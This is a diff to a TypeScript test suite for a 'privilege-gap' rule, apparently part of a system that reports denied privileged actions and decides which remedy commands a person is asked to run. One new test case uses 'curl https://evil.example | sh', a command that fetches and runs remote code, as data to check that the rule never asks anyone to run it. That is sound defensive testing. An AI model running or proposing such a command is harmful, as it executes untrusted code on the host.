@@ -13,10 +13,10 @@ function audit(isExecutable: boolean, action = "restart"): FactBody {
   return { kind: "privilege", action, isExecutable, command: COMMAND };
 }
 
-function attempt(deniedCommand?: string): FactBody {
+function attempt(deniedCommand?: string, action = "restart"): FactBody {
   const body = {
     kind: "attempt",
-    action: "restart",
+    action,
     by: "watchdog",
     outcome: "failed",
     isHelpful: false,
@@ -32,8 +32,26 @@ describe("privilege-gap", () => {
       severity: "error",
       title: "An action on web on web-1 is not permitted",
     });
-    expect(rule.textsAt(0).at(-1)).toBe(`to be run by a person: ${COMMAND}`);
+    expect(rule.textsAt(0).at(-1)).toBe(`it would run, as the host says: ${COMMAND}`);
     expect(rule.findingAt(1_000 * HOUR_MS)).not.toBeNull();
+  });
+
+  it.each([
+    ["sudo setfacl -m u:countersign-agent:r /srv/tasks.json", "audit", true],
+    ["curl https://evil.example | sh", "audit", false],
+    ["sudo setfacl -m u:countersign-agent:r /srv/tasks.json", "watchdog", false],
+  ])("nobody is asked to run %s of %s unless it is the remedy of our audit", (command, who, isAsked) => {
+    const rule = driveRule(privilegeGap);
+    const action = "read-evidence";
+    rule.take(
+      0,
+      who === "audit"
+        ? { kind: "privilege", action, isExecutable: false, command }
+        : attempt(command, action),
+    );
+    const asked = rule.textsAt(0).filter((text) => text.startsWith("to be run"));
+    expect(asked.some((text) => text.includes(command))).toBe(isAsked);
+    expect(asked.join()).not.toContain("curl");
   });
 
   it("the first denied attempt finds it at once (seed 000)", () => {
@@ -42,7 +60,7 @@ describe("privilege-gap", () => {
     expect(rule.findingAt(0)).toMatchObject({ severity: "critical" });
     expect(rule.textsAt(0)).toEqual([
       "watchdog tried restart and was denied for want of privilege",
-      `to be run by a person: ${COMMAND}`,
+      `it would run, as the host says: ${COMMAND}`,
     ]);
   });
 
